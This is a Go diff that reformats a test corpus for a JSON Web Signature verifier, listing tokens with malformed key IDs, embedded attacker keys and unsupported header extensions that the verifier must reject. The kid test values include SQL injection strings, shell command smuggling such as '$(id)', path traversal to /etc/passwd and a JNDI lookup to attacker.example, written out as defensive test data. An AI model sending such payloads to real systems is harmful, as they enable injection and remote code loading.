@@ -12,14 +12,29 @@ func (c *corpus) keyID() {
 	claims := newClaims()
 	c.reject("K", "missing", c.ec(newHeader().drop("kid"), claims), jose.ReasonKeyID, "any key of the set would do")
 	for name, raw := range map[string]string{
-		"null": "null", "number": "1", "array": `["ec-1"]`, "object": `{"ec-1":1}`, "bool": "true", "empty": `""`,
+		"null":   "null",
+		"number": "1",
+		"array":  `["ec-1"]`,
+		"object": `{"ec-1":1}`,
+		"bool":   "true",
+		"empty":  `""`,
 	} {
-		c.reject("K", name, c.ec(newHeader().set("kid", raw), claims), jose.ReasonKeyID, "kid must be a string of 1 to 128 characters")
+		c.reject("K", name, c.ec(newHeader().set("kid", raw), claims), jose.ReasonKeyID,
+			"kid must be a string of 1 to 128 characters")
 	}
 	for name, kid := range map[string]string{
-		"CRLF": "ec-1\r\nx: y", "NUL": "ec-1\x00", "leading space": " ec-1", "trailing space": "ec-1 ", "homoglyph": "\u0435c-1",
-		"SQL with spaces": "x' OR '1'='1", "shell with spaces": "ec-1; id", "129 characters": strings.Repeat("k", 129),
-		"1 MiB": strings.Repeat("k", 1<<20), "zero width": "ec\u200b-1", "tab": "ec-1\t", "DEL": "ec-1\x7f",
+		"CRLF":              "ec-1\r\nx: y",
+		"NUL":               "ec-1\x00",
+		"leading space":     " ec-1",
+		"trailing space":    "ec-1 ",
+		"homoglyph":         "\u0435c-1",
+		"SQL with spaces":   "x' OR '1'='1",
+		"shell with spaces": "ec-1; id",
+		"129 characters":    strings.Repeat("k", 129),
+		"1 MiB":             strings.Repeat("k", 1<<20),
+		"zero width":        "ec\u200b-1",
+		"tab":               "ec-1\t",
+		"DEL":               "ec-1\x7f",
 	} {
 		reason := jose.ReasonKeyID
 		if len(kid) > 1<<10 {
@@ -28,18 +43,34 @@ func (c *corpus) keyID() {
 		c.reject("K", name, c.ec(newHeader().set("kid", quoteJSON(kid)), claims), reason, "kid must be visible ASCII")
 	}
 	for name, kid := range map[string]string{
-		"unknown": "ec-9", "traversal": "../../../../etc/passwd", "absolute path": "/dev/null", "SQL": "x'/**/OR/**/'1'='1", "shell": "$(id)",
-		"other case": "EC-1", "URL": "https://attacker.example/k", "percent-escaped": "ec%2D1", "wildcard": "*", "jndi": "${jndi:ldap://attacker.example/x}",
-		"__proto__": "__proto__", "prefix": "ec", "suffix": "ec-1x", "regular expression": "ec-.", "encryption key": "enc-1", "constructor": "constructor",
+		"unknown":            "ec-9",
+		"traversal":          "../../../../etc/passwd",
+		"absolute path":      "/dev/null",
+		"SQL":                "x'/**/OR/**/'1'='1",
+		"shell":              "$(id)",
+		"other case":         "EC-1",
+		"URL":                "https://attacker.example/k",
+		"percent-escaped":    "ec%2D1",
+		"wildcard":           "*",
+		"jndi":               "${jndi:ldap://attacker.example/x}",
+		"__proto__":          "__proto__",
+		"prefix":             "ec",
+		"suffix":             "ec-1x",
+		"regular expression": "ec-.",
+		"encryption key":     "enc-1",
+		"constructor":        "constructor",
 	} {
 		c.reject("K", name, c.ec(newHeader().set("kid", quoteJSON(kid)), claims), "", "no usable key has this exact kid")
 	}
-	c.reject("K", "other key's kid", c.ec(newHeader().set("kid", `"ec-2"`), claims), jose.ReasonSignature, "the signer is not the key that is named")
+	c.reject("K", "other key's kid", c.ec(newHeader().set("kid", `"ec-2"`), claims), jose.ReasonSignature,
+		"the signer is not the key that is named")
 	c.reject("K", "attacker as a known kid", join(newHeader().String(), claims.String(), func(signed string) []byte {
 		return ecdsaSign(c.keys.ecAttacker, signed)
 	}), jose.ReasonSignature, "not the issuer's key")
-	c.reject("K", "member twice, good last", c.ec(newHeader().first(`"kid"`, `"ec-9"`), claims), jose.ReasonHeader, "parsers differ in which one counts")
-	c.reject("K", "member twice, good first", c.ec(newHeader().add(`"kid"`, `"ec-9"`), claims), jose.ReasonHeader, "parsers differ in which one counts")
+	c.reject("K", "member twice, good last", c.ec(newHeader().first(`"kid"`, `"ec-9"`), claims), jose.ReasonHeader,
+		"parsers differ in which one counts")
+	c.reject("K", "member twice, good first", c.ec(newHeader().add(`"kid"`, `"ec-9"`), claims), jose.ReasonHeader,
+		"parsers differ in which one counts")
 	c.reject("K", "kid of two keys", join(newHeader().set("kid", `"twice-1"`).String(), claims.String(), func(signed string) []byte {
 		return ecdsaSign(c.keys.ecTwice, signed)
 	}), "", "the set has two keys under this kid: neither is used")
@@ -66,13 +97,16 @@ func (c *corpus) keysInHeader() {
 		{"x5c empty", "x5c", `[]`},
 	} {
 		header := newHeader().set(offer.parameter, offer.value)
-		c.reject("J", offer.name+", attacker's signature", join(header.String(), newClaims().String(), attacker), jose.ReasonHeader, "the key comes with the token")
+		c.reject("J", offer.name+", attacker's signature", join(header.String(), newClaims().String(), attacker), jose.ReasonHeader,
+			"the key comes with the token")
 		c.reject("J", offer.name+", good signature", c.ec(header, newClaims()), jose.ReasonHeader, "a reader behind us might use it")
 	}
-	c.reject("J", "wrong case", c.ec(newHeader().set("JWK", attackerKey), newClaims()), jose.ReasonHeader, "encoding/json would take it for jwk")
+	c.reject("J", "wrong case", c.ec(newHeader().set("JWK", attackerKey), newClaims()), jose.ReasonHeader,
+		"encoding/json would take it for jwk")
 	for _, thumbprint := range []string{"x5t", "x5t#S256"} {
 		header := newHeader().set(thumbprint, `"dGh1bWJwcmludA"`)
-		c.reject("J", thumbprint+", attacker's signature", join(header.String(), newClaims().String(), attacker), jose.ReasonSignature, "a certificate that nobody asked for")
+		c.reject("J", thumbprint+", attacker's signature", join(header.String(), newClaims().String(), attacker), jose.ReasonSignature,
+			"a certificate that nobody asked for")
 		c.accept("J", thumbprint+", good signature", c.ec(header, newClaims()), "some issuers always send it; it is ignored")
 	}
 }
@@ -106,10 +140,14 @@ func (c *corpus) extensions() {
 		c.reject("X", x.name, c.ec(newHeader().set(x.parameter, x.value), newClaims()), jose.ReasonHeader, x.why)
 	}
 	for name, value := range map[string]string{"true": "true", "false": "false"} {
-		c.reject("X", "b64 "+name+" with crit", c.ec(newHeader().set("crit", `["b64"]`).set("b64", value), newClaims()), jose.ReasonHeader, "RFC 7797, which we do not speak")
+		c.reject("X", "b64 "+name+" with crit", c.ec(newHeader().set("crit", `["b64"]`).set("b64", value), newClaims()), jose.ReasonHeader,
+			"RFC 7797, which we do not speak")
 	}
-	c.reject("X", "crit twice", c.ec(newHeader().add(`"crit"`, `["a"]`).add(`"crit"`, `[]`), newClaims()), jose.ReasonHeader, "parsers differ in which one counts")
+	c.reject("X", "crit twice", c.ec(newHeader().add(`"crit"`, `["a"]`).add(`"crit"`, `[]`), newClaims()), jose.ReasonHeader,
+		"parsers differ in which one counts")
 	unencoded := encode([]byte(newHeader().set("crit", `["b64"]`).set("b64", "false").String())) + "." + newClaims().String()
-	c.reject("X", "b64 false, payload unencoded", unencoded+"."+encode(ecdsaSign(c.keys.ec1, unencoded)), jose.ReasonMalformed, "RFC 7797 as meant")
-	c.accept("X", "unknown parameters", c.ec(newHeader().set("x-trace", `"1"`).set("ver", "2"), newClaims()), "RFC 7515 s4: what is not understood is ignored")
+	c.reject("X", "b64 false, payload unencoded", unencoded+"."+encode(ecdsaSign(c.keys.ec1, unencoded)), jose.ReasonMalformed,
+		"RFC 7797 as meant")
+	c.accept("X", "unknown parameters", c.ec(newHeader().set("x-trace", `"1"`).set("ver", "2"), newClaims()),
+		"RFC 7515 s4: what is not understood is ignored")
 }
